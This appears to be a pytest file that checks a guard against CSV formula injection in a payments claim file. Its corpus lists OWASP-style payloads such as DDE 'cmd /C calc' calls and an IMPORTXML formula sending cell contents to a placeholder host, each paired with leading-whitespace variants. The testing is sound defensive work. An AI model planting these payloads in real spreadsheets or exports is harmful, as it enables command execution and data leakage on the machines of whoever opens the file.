"""CSV (formula) injection corpus against the claim file's free-text cells (chalicelib/payments/claim_file.py).

Every payload below, with every kind of leading white space in front of it, must come out of a claim file as a
cell that no spreadsheet runs: after the white space a spreadsheet skips, it does not start with a character
that opens a formula or a new cell. The corpus follows OWASP's "CSV Injection" page and the variants an attack
run found passing (a leading space, a non-breaking space, a leading ';').
"""
from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date

import pytest

from chalicelib.payments import lines as pl
from chalicelib.payments.claim_file import guard, write

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", ";", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "+thespreadsheet", "-2+3+cmd|' /C calc'!E2", "@A1", "%0A=1", "|calc", ";=1+1", ";;=1+1", "=\t1", "＝1+1", "＋1",
    "－1", "＠SUM(A1)", "=1+1;=2+2", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@SUM(A1)",
]
LEADING = ["", " ", "  ", "\u00a0", "\u00a0\u00a0", "\t", "\r", "\n", "\u2003", "\u3000", "\u202f", "\ufeff", "\u200b",
           " \u00a0\t", "\u2028", "\x0b", "\x0c"]


def _line(text: str) -> pl.PaymentLine:
    line = pl.new_line(referral_id="ref-1", programme_id="flexible-routeways-norfolk", participant_ref="PR-1",
                       milestone_key="level-2-support:evidence", fee_id="level-2-support", milestone="evidence",
                       funder="dwp", funder_org_id="dwp-commissioning", payee_org_id="broadland-mentors", prime_org_id="trobius", management_fee_bp=0,
                       amount_pence=100, event_date=date(2026, 11, 24), kind=pl.CLAIM, status=pl.APPROVED,
                       evidence_ref=text, provider_ref=text)
    return dataclasses.replace(line, reason=text)


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would take this cell as a formula: it skips leading white space first."""
    visible = cell.lstrip(" \t\r\n\x0b\x0c\u00a0\u2003\u3000\u202f\ufeff\u200b\u2028")
    return visible.startswith(FORMULA_START)


CORPUS = [prefix + payload for payload in PAYLOADS for prefix in LEADING]


def test_the_corpus_is_dangerous_unguarded():
    """Without the guard every case would run (so a case that passes below was made safe by the guard)."""
    assert all(_runs(case) for case in CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=[repr(c)[:40] for c in CORPUS])
def test_no_corpus_case_runs_in_the_claim_file(case):
    assert not _runs(guard(case))
    out = io.StringIO()
    write([_line(case)], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1
    for column in ("evidence_ref", "reason", "provider_ref"):
        cell = rows[0][column]
        assert not _runs(cell), (column, cell)
        assert cell.startswith("'") and cell[1:] == guard(case)[1:], cell


@pytest.mark.parametrize("safe", ["EV/2026/11/0042", "Receipts folder 12", "1-2 hours", "a=b", "'quoted"])
def test_ordinary_text_keeps_its_content(safe):
    assert guard(safe) == safe
    assert guard("\u00a0 " + safe) == safe  # only the leading white space goes
